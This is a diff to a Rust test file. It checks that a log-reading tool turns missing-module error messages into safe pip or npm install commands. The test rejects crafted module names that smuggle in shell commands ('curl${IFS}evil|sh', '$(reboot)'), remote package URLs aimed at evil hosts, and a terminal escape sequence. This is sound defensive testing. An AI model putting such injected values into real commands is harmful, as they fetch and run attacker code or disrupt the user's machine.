@@ -39,6 +39,31 @@ fn the_known_ends_of_servers_are_found() {
 }
 
 #[test]
+fn what_a_log_says_goes_into_a_command_only_as_a_name() {
+    let command = |line: &str| meaning(line).and_then(|found| found.steps[0].command.clone());
+    for (line, expected) in [
+        ("No module named 'google.cloud'", "python -m pip install google"),
+        ("Cannot find module 'lodash/fp'", "npm install lodash"),
+        ("Cannot find package '@scope/name/sub'", "npm install @scope/name"),
+    ] {
+        assert_eq!(command(line).as_deref(), Some(expected), "{line}");
+    }
+    for line in [
+        "No module named 'a;curl${IFS}evil|sh'",
+        "No module named 'x@https://evil.example/x'",
+        "No module named '-rhttps://evil'",
+        "Cannot find module '$(reboot)'",
+        "Cannot find module 'x@git+ssh://evil'",
+        "Cannot find module '\u{1b}[2Jx'",
+        "Cannot find module './own'",
+        "Cannot find module 'C:\\own'",
+    ] {
+        let command = command(line).unwrap_or_default();
+        assert!(!command.contains("install"), "{line}: {command}");
+    }
+}
+
+#[test]
 fn what_is_over_or_harmless_is_no_trouble() {
     for text in [
         "[Errno 98] Address already in use\nUvicorn running on http://127.0.0.1:8000\nGET /\n",
